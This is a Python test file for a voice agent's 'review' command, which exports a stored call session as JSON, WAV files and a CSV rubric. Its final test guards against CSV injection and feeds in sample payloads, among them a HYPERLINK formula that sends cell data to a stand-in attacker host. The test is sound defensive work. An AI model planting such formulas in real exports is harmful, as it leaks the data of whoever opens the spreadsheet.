"""``vocero review``: the listening-review bundle of a stored session — bundle.json, one WAV per
admitted unit as synthesized, rubric.csv with separate dimensions, and the diagnostics (output
queue age, correction-to-useful-answer interval) from the stored unit timestamps."""

from __future__ import annotations

import csv
import json
import wave
from pathlib import Path

import anyio
import pytest

from tests.speech.support import DECEMBER_1, planner
from vocero.app.cli import main
from vocero.app.commands.review import RUBRIC_DIMENSIONS, review
from vocero.contracts.clock import VirtualClock
from vocero.contracts.domain import AgentProfile
from vocero.speech.admission import Decision
from vocero.speech.model import GenerationRef
from vocero.speech.records import decided_entry, unit_entry
from vocero.store import Store
from vocero.store.knowledge import KnowledgeRepository, Scope
from vocero.store.migrate import upgrade_async
from vocero.store.repositories import Conversations
from vocero.store.units import UnitAudioBuffer, UnitRepository

pytestmark = pytest.mark.anyio

SID = "ses_review"
RATE = 16000


def tone(ms: int) -> bytes:
    return b"\x10\x00" * (RATE * ms // 1000)


async def stored_session(url: str, demo: AgentProfile) -> dict[str, str]:
    """A call: "can I return an opened blender" -> the opened-items claim, cut off at 500 ms
    by "sorry, it's unopened" -> the unopened claim, heard whole; plus a stale and a refused
    unit along the way."""
    await upgrade_async(url)
    store = Store.open(url)
    clock = VirtualClock(start=DECEMBER_1)
    try:
        await KnowledgeRepository(store, clock=clock).sync_catalog(
            Scope("acme", "demo", "1"), demo.claims, approved_by="t")
        clock.advance(10)
        conversations = Conversations(store, clock=clock)
        await conversations.create_session(
            session_id=SID, tenant_id="acme", subject_ref="sub", profile_id="demo",
            profile_version="1", effective={"locale": "en-US", "voice_profile_id": "builtin",
                                            "voice_version": "default",
                                            "output_sample_rate": RATE})
        units = UnitRepository(store, clock=clock)
        synthesis = {"runner": "sim-tts", "voice_profile_id": "builtin", "sample_rate": RATE}

        await conversations.add_turn(session_id=SID, turn_id="turn_1", source="text",
                                     text="can I return an opened blender")
        first = planner(claims=demo.claims, clock=clock,
                        generation=GenerationRef("gen_1", "turn_1", 0))
        opened, extra = first.claims(["returns.opened", "returns.damaged"])
        for unit in (opened, extra):
            await units.record(unit_entry(unit, session_id=SID))
        clock.advance(0.12)
        await units.record(decided_entry(opened, Decision("ready"), session_id=SID,
                                         at=clock.now(), audio_ms=2000.0, synthesis=synthesis))
        take = UnitAudioBuffer(opened.unit_id, sample_rate=RATE)
        take.write(tone(2000))
        assert await units.save_audio(SID, take)
        clock.advance(0.5)
        await conversations.upsert_generation(
            generation_id="gen_1", session_id=SID, turn_id="turn_1", status="interrupted",
            generated_text=opened.text, heard_text="Opened items can only", played_ms=500,
            sent_ms=2000)
        await conversations.add_turn(session_id=SID, turn_id="turn_2", source="text",
                                     text="sorry, it's unopened")
        await units.record(decided_entry(extra, Decision("stale", "question_revised"),
                                         session_id=SID, at=clock.now()))
        second = planner(claims=demo.claims, clock=clock,
                         generation=GenerationRef("gen_2", "turn_2", 1))
        invented = second.feed("It costs $99. ") + second.claims(["returns.unopened"])
        for unit in invented:
            await units.record(unit_entry(unit, session_id=SID))
        clock.advance(0.3)
        unopened = invented[-1]
        await units.record(decided_entry(unopened, Decision("ready"), session_id=SID,
                                         at=clock.now(), audio_ms=1500.0, synthesis=synthesis))
        take = UnitAudioBuffer(unopened.unit_id, sample_rate=RATE)
        take.write(tone(1500))
        await units.save_audio(SID, take)
        await conversations.upsert_generation(
            generation_id="gen_2", session_id=SID, turn_id="turn_2", status="completed",
            generated_text=unopened.text, heard_text=unopened.text, played_ms=1500,
            sent_ms=1500)
        return {"opened": opened.unit_id, "extra": extra.unit_id, "unopened": unopened.unit_id,
                "refused": invented[0].unit_id}
    finally:
        await store.close()


async def test_the_bundle_of_a_stored_session(tmp_path: Path, demo: AgentProfile) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'v.db'}"
    ids = await stored_session(url, demo)
    out = tmp_path / "review"
    await review(url, SID, out)
    bundle = json.loads((out / "bundle.json").read_text())

    assert [(q["question_revision"], q["question"]) for q in bundle["question_revisions"]] == [
        (0, "can I return an opened blender"), (1, "sorry, it's unopened")]
    units = {u["unit_id"]: u for u in bundle["units"]}
    assert units[ids["opened"]]["disposition"] == "admitted"
    assert units[ids["opened"]]["claim_versions"] == {"returns.opened": 1}
    source = next(c for c in demo.claims if c.key == "returns.opened").sources[0]
    assert units[ids["opened"]]["evidence"] == [{"source_id": source.id,
                                                  "version": source.version}]
    assert (units[ids["extra"]]["disposition"], units[ids["extra"]]["reason_code"]) == (
        "stale", "question_revised")
    assert units[ids["refused"]]["disposition"] == "refused"
    assert units[ids["unopened"]]["played_ms"] == 1500
    assert units[ids["opened"]]["played_ms"] == 500
    assert bundle["synthesis"]["output_sample_rate"] == RATE
    assert bundle["synthesis"]["per_unit"] == [
        {"runner": "sim-tts", "voice_profile_id": "builtin", "sample_rate": RATE}]

    [point] = bundle["interruption_points"]
    assert point["generation_id"] == "gen_1" and point["unit_id"] == ids["opened"]
    assert point["offset_in_unit_ms"] == 500 and point["before_self_contained"] is True
    assert point["heard_text"] == "Opened items can only"

    diagnostics = bundle["diagnostics"]
    assert diagnostics["output_queue_age_ms"]["count"] == 2
    assert diagnostics["output_queue_age_ms"]["max"] == pytest.approx(300.0, abs=1)
    [correction] = diagnostics["correction_to_useful_answer_ms"]["corrections"]
    assert correction["turn_id"] == "turn_2"
    assert correction["interval_ms"] == pytest.approx(300.0, abs=1)
    assert "passage" not in (out / "bundle.json").read_text()


async def test_one_wav_per_admitted_unit_as_synthesized(tmp_path: Path,
                                                        demo: AgentProfile) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'v.db'}"
    ids = await stored_session(url, demo)
    out = tmp_path / "review"
    await review(url, SID, out)
    wavs = sorted((out / "units").glob("*.wav"))
    assert [w.name.split("_", 1)[1] for w in wavs] == [
        f"{ids['opened']}.wav", f"{ids['unopened']}.wav"]
    with wave.open(str(wavs[0])) as first:
        assert (first.getnchannels(), first.getsampwidth(), first.getframerate()) == (1, 2, RATE)
        assert first.readframes(first.getnframes()) == tone(2000)


async def test_the_rubric_has_one_row_per_answer_and_separate_dimensions(
    tmp_path: Path, demo: AgentProfile
) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'v.db'}"
    await stored_session(url, demo)
    out = tmp_path / "review"
    await review(url, SID, out)
    with (out / "rubric.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["generation_id"] for r in rows] == ["gen_1", "gen_2"]
    for dimension in RUBRIC_DIMENSIONS:
        assert all(r[dimension] == "" for r in rows)
    first, second = rows
    assert (first["interrupted"], first["interrupted_before_self_contained"]) == ("yes", "yes")
    assert first["question"] == "can I return an opened blender"
    assert first["critical_values"].split("; ") == ["14"]
    assert second["claim_keys"] == "returns.unopened" and second["interrupted"] == "no"
    assert "$99" not in second["answer_text"]


@pytest.mark.process
async def test_the_command_line(tmp_path: Path, demo: AgentProfile,
                                capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'v.db'}"
    await stored_session(url, demo)
    out = tmp_path / "cli"
    code = await anyio.to_thread.run_sync(
        lambda: main(["review", SID, "--out", str(out), "--db", url]))
    assert code == 0
    summary = json.loads(capsys.readouterr().out)
    assert (summary["units"], summary["answers"], summary["wavs"]) == (5, 2, 2)
    assert (out / "bundle.json").exists() and (out / "rubric.csv").exists()
    missing = await anyio.to_thread.run_sync(
        lambda: main(["review", "ses_nope", "--out", str(out), "--db", url]))
    assert missing == 2


def test_an_interruption_after_the_answer_was_self_contained() -> None:
    from datetime import UTC, datetime

    from vocero.app.commands.review import ReviewData, interruption_points
    from vocero.store.records import GenerationRecord, SessionRecord
    from vocero.store.units import UnitView

    at = datetime(2026, 12, 1, tzinfo=UTC)
    session = SessionRecord(id=SID, tenant_id="acme", subject_ref="s", profile_id="demo",
                            profile_version="1", state="CLOSING", effective={},
                            resume_token_hash=None, created_at=at, closed_at=None)

    def view(unit_id: str, index: int, offset: float, length: float, kind: str) -> UnitView:
        return UnitView(
            unit_id=unit_id, session_id=SID, seq=index + 1, generation_id="gen_1",
            turn_id="turn_1", question_revision=0, index=index, kind=kind, text="x",
            claim_keys=[], evidence=[], disposition="admitted", reason_code="",
            planned_at=at, decided_at=at, admitted_at=at, audio_offset_ms=offset,
            audio_ms=length, played_ms=0, synthesis={}, has_audio=False)

    units = [view("u1", 0, 0.0, 2000.0, "claim"), view("u2", 1, 2000.0, 1500.0, "conversational")]
    cut = GenerationRecord(id="gen_1", session_id=SID, turn_id="turn_1", status="interrupted",
                           generated_text="", heard_text="", played_ms=2600, sent_ms=3500,
                           created_at=at, completed_at=at)
    [point] = interruption_points(ReviewData(session=session, turns=[], generations=[cut],
                                             units=units))
    assert (point["unit_id"], point["offset_in_unit_ms"]) == ("u2", 600)
    assert point["before_self_contained"] is False


def test_what_a_caller_typed_is_never_a_formula_in_the_rubric(tmp_path: Path) -> None:
    """OWASP CSV injection: a cell starting with ``= + - @``, tab or carriage return is written
    with a leading ``'``; everything else, and every other column, as it was."""
    from datetime import UTC, datetime

    from vocero.app.commands.review import ReviewData, write_review
    from vocero.store.records import GenerationRecord, SessionRecord, TurnRecord
    from vocero.store.units import UnitView

    at = datetime(2026, 12, 1, tzinfo=UTC)
    said = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1-1 hello",
            "-2+3", "\t=1+1", "\r=1+1", "\uff1dcmd", "a = b is fine"]
    session = SessionRecord(id=SID, tenant_id="acme", subject_ref="s", profile_id="demo",
                            profile_version="1", state="CLOSED", effective={},
                            resume_token_hash=None, created_at=at, closed_at=at)
    turns = [TurnRecord(id=f"turn_{i}", session_id=SID, seq=i, source="text", text=text,
                        created_at=at) for i, text in enumerate(said)]
    generations = [GenerationRecord(id=f"gen_{i}", session_id=SID, turn_id=f"turn_{i}",
                                    status="completed", generated_text="", heard_text="=2*3",
                                    played_ms=0, sent_ms=0, created_at=at, completed_at=at)
                   for i in range(len(said))]
    units = [UnitView(
        unit_id=f"u{i}", session_id=SID, seq=i + 1, generation_id=f"gen_{i}",
        turn_id=f"turn_{i}", question_revision=0, index=0, kind="conversational",
        text="@answer", claim_keys=[], evidence=[], disposition="admitted", reason_code="",
        planned_at=at, decided_at=at, admitted_at=at, audio_offset_ms=0.0, audio_ms=0.0,
        played_ms=0, synthesis={}, has_audio=False) for i in range(len(said))]
    out = tmp_path / "review"
    write_review(ReviewData(session=session, turns=turns, generations=generations,
                            units=units), out)
    with (out / "rubric.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["question"] for r in rows] == [f"'{t}" for t in said[:-1]] + ["a = b is fine"]
    assert {r["heard_text"] for r in rows} == {"'=2*3"}
    assert {r["answer_text"] for r in rows} == {"'@answer"}
    assert [r["generation_id"] for r in rows] == [f"gen_{i}" for i in range(len(said))]
